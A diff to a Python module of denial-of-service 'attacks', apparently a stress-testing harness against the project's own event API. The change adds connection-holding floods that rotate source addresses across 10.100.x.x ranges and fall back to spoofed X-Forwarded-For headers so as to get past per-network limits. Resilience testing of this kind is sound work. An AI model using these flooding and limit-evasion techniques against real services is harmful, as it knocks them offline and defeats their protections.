@@ -1,13 +1,14 @@
 """The attacks. Each is a function of a target, the end of its time and the number of its process; it returns an outcome."""
 
 import base64
+import itertools
 import json
 import random
 import socket
 import time
 from multiprocessing.pool import ThreadPool
 
-from traffic import PATIENCE, PROCESSES, Outcome, ask, connect, pipeline, read_answers, request
+from traffic import PATIENCE, PROCESSES, Outcome, ask, connect, has_networks, pipeline, read_answers, request
 
 ALL = {}
 IPHONE = (
@@ -29,17 +30,17 @@ def flood(target, until, requests):
     return outcome
 
 
-def hold(target, until, count, beginning, headroom=0, pause=0):
-    """Opens connections, sends the beginning of something on each and holds them to the end.
+def hold(target, until, count, beginning, headroom=0, pause=0, sources=(None,)):
+    """Opens connections from the sources in turn, sends the beginning of something on each and holds them to the end.
 
     A pause in seconds after each makes the memory that they hold the attack, and not their opening.
     """
     outcome = Outcome()
     connections = []
     try:
-        for _ in range(count):
+        for source, _ in zip(itertools.cycle(sources), range(count)):
             try:
-                connections.append(connect(target.port))
+                connections.append(connect(target.port, source=source))
                 connections[-1].sendall(beginning)
                 outcome.requests += 1
             except OSError:
@@ -249,11 +250,13 @@ def bulk_of_one_alias(target, until, number):
 
 @attack
 def short_requests_behind_one_that_waits(target, until, number):
-    """on 1,000 connections of one network, an event that waits for its turn, and 330 requests of 25 bytes behind it"""
+    """on 1,000 connections of two networks, an event that waits for its turn, and 330 requests of 25 bytes behind it"""
+    # Without these addresses, only the events are those of a network: loopback is exempt.
+    sources = [f"10.100.{number}.{host}" for host in range(1, 251)] if has_networks() else [None]
+    sender = {} if has_networks() else {"X-Forwarded-For": f"2001:db8:{number}::7"}
     event = {"branch_key": target.key, "name": "pear", "user_data": {"os": "Android", "android_id": "p"}, "note": "n" * 7600}
-    sent = request("POST", "/v2/event/custom", event, {"X-Forwarded-For": f"2001:db8:{number}::7"})
-    sent += b"GET / HTTP/1.1\r\nHost:\r\n\r\n" * 330
-    return hold(target, until, 5 * target.at_once // 2, sent)
+    sent = request("POST", "/v2/event/custom", event, sender) + b"GET / HTTP/1.1\r\nHost:\r\n\r\n" * 330
+    return hold(target, until, 5 * target.at_once // 2, sent, sources=sources)
 
 
 @attack
